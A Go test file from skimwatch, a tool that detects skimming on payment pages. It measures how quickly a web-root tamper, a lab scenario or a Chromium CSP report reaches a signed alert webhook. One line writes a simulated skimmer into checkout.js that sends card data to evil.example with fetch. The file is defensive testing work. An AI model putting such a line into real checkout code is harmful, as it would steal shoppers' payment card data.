package service

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/alert"
	"github.com/skimwatch/skimwatch/internal/check/browser"
	"github.com/skimwatch/skimwatch/internal/check/browser/browsertest"
	"github.com/skimwatch/skimwatch/internal/check/verdict"
	"github.com/skimwatch/skimwatch/internal/collector"
	"github.com/skimwatch/skimwatch/internal/lab"
	"github.com/skimwatch/skimwatch/internal/monitor"
	"github.com/skimwatch/skimwatch/internal/store"
	"github.com/skimwatch/skimwatch/internal/store/open"
	"github.com/skimwatch/skimwatch/internal/testsupport"
)

// envTimeToKnow switches on TestTimeToKnow, a measurement rather than a
// test: its figures go to docs/PERFORMANCE.md, and timings are not asserted.
const envTimeToKnow = "SKIMWATCH_TIME_TO_KNOW"

// TestTimeToKnow measures, through the whole serve process and a signed
// webhook on loopback, how long a tamper takes to reach the receiver:
//
//	SKIMWATCH_TIME_TO_KNOW=1 go test ./internal/service -run TestTimeToKnow -v
//
// The alerts' grouping window is off (alert.Options.Window -1): the figures
// are detection and delivery; the default window (30 s) adds to them.
func TestTimeToKnow(t *testing.T) {
	if os.Getenv(envTimeToKnow) == "" {
		t.Skipf("a measurement, not a test: set %s=1 to run it (docs/PERFORMANCE.md)", envTimeToKnow)
	}
	t.Run("a web-root write under watch to the alert", measureWatch)
	t.Run("a lab tamper to the alert", measureLabTamper)
	t.Run("the first Chromium CSP report of a new origin to the alert", measureCSP)
}

func report(t *testing.T, what string, d []time.Duration) {
	t.Helper()
	s := slices.Clone(d)
	slices.Sort(s)
	ms := func(x time.Duration) string { return fmt.Sprintf("%.0f ms", float64(x)/float64(time.Millisecond)) }
	t.Logf("TIME-TO-KNOW %s: n=%d min=%s median=%s max=%s all=%v", what, len(s), ms(s[0]), ms(s[len(s)/2]), ms(s[len(s)-1]), d)
}

func measureWatch(t *testing.T) {
	root, recv, _ := watchedServe(t)
	js := filepath.Join(root, "checkout.js")
	original, err := os.ReadFile(js)
	if err != nil {
		t.Fatal(err)
	}
	var incident, resolved []time.Duration
	for i := range 10 {
		content, typ := []byte(fmt.Sprintf("pay();fetch('https://evil.example/%d'+card)\n", i)), alert.TypeIncident
		if i%2 == 1 {
			content, typ = original, alert.TypeResolved
		}
		written := time.Now()
		if err := os.WriteFile(js, content, 0o644); err != nil {
			t.Fatal(err)
		}
		got := recv.waitFor(t, i+1)
		if got[i].Type != typ {
			t.Fatalf("alert %d is %s, want %s", i, got[i].Type, typ)
		}
		d := recv.arrived(i).Sub(written)
		if typ == alert.TypeIncident {
			incident = append(incident, d)
		} else {
			resolved = append(resolved, d)
		}
	}
	report(t, "web-root write to incident at the webhook", incident)
	report(t, "web-root restore to resolution at the webhook", resolved)
}

// hookServe starts serve with cfg (YAML, with HOOK for the webhook URL)
// and a signed webhook, and returns its API address and the receiver.
func hookServe(t *testing.T, yaml string, opts Options) (api, token string, recv *webhookReceiver) {
	t.Helper()
	recv = &webhookReceiver{t: t, secret: []byte("a-webhook-secret-of-the-shop")}
	hook := httptest.NewServer(recv)
	t.Cleanup(hook.Close)
	t.Setenv("SKIMWATCH_STORE", "")
	t.Setenv("TEST_WEBHOOK_SECRET", string(recv.secret))
	yaml += "alerts:\n  - webhook: {url: " + hook.URL + ", secret: {env: TEST_WEBHOOK_SECRET}}\n"
	opts.Alerts = alert.Options{Window: -1}
	cfg := parse(t, yaml)
	api, _ = startServe(t, cfg, opts)
	return api, apiToken(t, cfg), recv
}

func measureLabTamper(t *testing.T) {
	_, err := browser.FindChromium("")
	testsupport.Need(t, "Chromium", err)
	l, err := lab.Start(context.Background(), lab.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	const every = 10 * time.Second
	dir := t.TempDir()
	// differential: never keeps the figure the one-pass check it was
	// measured with; the page has no approved baseline, so auto would run
	// the three differential passes on every check.
	y := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\nconcurrency: 1\n"+
		"sites:\n  - name: lab\n    differential: never\n    payment_origins: [%q, %q]\n    pages:\n      - {url: %q, every: %s, timeout: 60s}\n",
		dir, l.PSPOrigin(), l.PSPAPIOrigin(), l.ShopURL()+"/checkout/link", every)
	api, token, recv := hookServe(t, y, Options{Monitor: monitor.Options{Dwell: time.Second, PollInterval: 100 * time.Millisecond}})
	// The first clean run, so that the tamper lands on a watched page.
	waitCompleteRun(t, api, token)
	var incident, checks []time.Duration
	n := 0
	for range 3 {
		if err := l.SetScenario("fake-card-form"); err != nil {
			t.Fatal(err)
		}
		tampered := time.Now()
		got := recv.waitForWithin(t, n+1, 3*every)
		if a := got[n]; a.Type != alert.TypeIncident || !hasItem(a, verdict.KindCardExfil) {
			t.Fatalf("alert %d = %+v, want an incident with %s", n, a, verdict.KindCardExfil)
		}
		incident = append(incident, recv.arrived(n).Sub(tampered))
		n++
		if err := l.SetScenario("clean"); err != nil {
			t.Fatal(err)
		}
		got = recv.waitForWithin(t, n+1, 3*every)
		if got[n].Type != alert.TypeResolved {
			t.Fatalf("alert %d is %s, want the resolution", n, got[n].Type)
		}
		n++
	}
	checks = completeRuns(t, api, token)
	report(t, fmt.Sprintf("lab tamper to incident at the webhook (page every %s, dwell 1s)", every), incident)
	if len(checks) > 0 {
		report(t, "one check's duration (complete runs, from the queue)", checks)
	}
}

// waitCompleteRun waits for a complete run in /api/runs.
func waitCompleteRun(t *testing.T, api, token string) {
	t.Helper()
	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
		var out struct{ Runs []monitor.Run }
		if getAs(t, token, api+"/api/runs", &out) == http.StatusOK {
			for _, r := range out.Runs {
				if r.Complete {
					return
				}
			}
		}
	}
	t.Fatal("no complete run within 2 minutes")
}

// completeRuns returns how long each complete run took.
func completeRuns(t *testing.T, api, token string) []time.Duration {
	t.Helper()
	var out struct{ Runs []monitor.Run }
	getAs(t, token, api+"/api/runs?limit=1000", &out)
	var ds []time.Duration
	for _, r := range out.Runs {
		if r.Complete && r.Finished != nil && r.Result != nil && r.Result.Detector == monitor.DetectorCheck {
			ds = append(ds, r.Finished.Sub(r.Result.At))
		}
	}
	return ds
}

func hasItem(a alert.Alert, kind string) bool {
	for _, it := range a.Items {
		if it.Kind == kind {
			return true
		}
	}
	return false
}

// reportTimer forwards CSP reports to serve's collector and notes when the
// first report naming a given text arrived.
type reportTimer struct {
	mu     sync.Mutex
	target string
	want   string
	first  time.Time
}

func (r *reportTimer) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(req.Body, 1<<20))
	at := time.Now()
	r.mu.Lock()
	target := r.target
	if r.want != "" && r.first.IsZero() && bytes.Contains(body, []byte(r.want)) {
		r.first = at
	}
	r.mu.Unlock()
	out, err := http.NewRequestWithContext(req.Context(), req.Method, target+req.URL.Path, bytes.NewReader(body))
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	out.Header = req.Header.Clone()
	resp, err := http.DefaultClient.Do(out)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	defer resp.Body.Close()
	for k, v := range resp.Header {
		w.Header()[k] = v
	}
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}

func (r *reportTimer) expect(text string) {
	r.mu.Lock()
	r.want, r.first = text, time.Time{}
	r.mu.Unlock()
}

func (r *reportTimer) firstReport() time.Time {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.first
}

func measureCSP(t *testing.T) {
	_, err := browser.FindChromium("")
	testsupport.Need(t, "Chromium", err)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	const key = "lab-site-key-0123456789abcdef"
	timer := &reportTimer{}
	proxy := httptest.NewServer(timer)
	t.Cleanup(proxy.Close)
	l, err := lab.Start(ctx, lab.Options{ReportURI: proxy.URL + "/r/" + key})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	dir := t.TempDir()
	// The shop's own origin approved, as a baseline and an operator would.
	st, err := open.Open(ctx, "sqlite://"+filepath.Join(dir, "skimwatch.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range []store.ApprovedSource{
		{Site: "lab", Directive: "script-src", Value: l.ShopURL(), Origin: store.OriginBaseline},
		{Site: "lab", Directive: store.DirectiveSiteOrigin, Value: l.ShopURL(), Origin: store.OriginManual},
	} {
		if err := st.ApproveSource(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	st.Close()
	t.Setenv("TEST_COLLECTOR_KEY", key)
	y := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
		"sites:\n  - name: lab\n    collector_key: {env: TEST_COLLECTOR_KEY}\n    every: 10m\n", dir)
	api, _, recv := hookServe(t, y, Options{Collector: collector.Options{MinClients: 1}, Monitor: monitor.Options{PollInterval: 100 * time.Millisecond}})
	timer.mu.Lock()
	timer.target = api
	timer.mu.Unlock()

	b, err := browser.Launch(ctx, browser.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	// Control: the clean shop alerts nobody. Its reports, if any, leave the
	// browser before the next visit's; the first scenario's alert comes
	// from an evaluation that hands the alerter every collector finding of
	// the site, so one the clean visit raised is in that alert or before
	// it, and the alert must name the lookalike origin alone.
	if err := l.SetScenario("clean"); err != nil {
		t.Fatal(err)
	}
	browsertest.Visit(t, ctx, b, l.ShopURL()+"/checkout/token")
	cdn := strings.TrimPrefix(l.CDNOrigin(), "http://")
	var ds []time.Duration
	for i, sc := range []struct{ scenario, kind, text string }{
		{"lookalike-cdn", "csp.unapproved-script", strings.TrimPrefix(l.CDNOrigin(), "http://")},
		{"svg-payload", "csp.eval", "eval"},
	} {
		if err := l.SetScenario(sc.scenario); err != nil {
			t.Fatal(err)
		}
		timer.expect(sc.text)
		browsertest.Visit(t, ctx, b, l.ShopURL()+"/checkout/token")
		got := recv.waitForWithin(t, i+1, 30*time.Second)
		if a := got[i]; a.Type != alert.TypeIncident || !hasItem(a, sc.kind) {
			t.Fatalf("alert %d = %+v, want an incident with %s", i, a, sc.kind)
		}
		if i == 0 {
			for _, it := range got[0].Items {
				if it.Kind != sc.kind || !strings.Contains(it.Message, cdn) {
					t.Fatalf("the clean shop raised %s (%s) before the first scenario's alert", it.Kind, it.Message)
				}
			}
		}
		first := timer.firstReport()
		if first.IsZero() {
			t.Fatalf("no report naming %q passed the proxy", sc.text)
		}
		ds = append(ds, recv.arrived(i).Sub(first))
	}
	report(t, "first Chromium CSP report of a new origin to incident at the webhook (min clients 1, flush 1s)", ds)
}
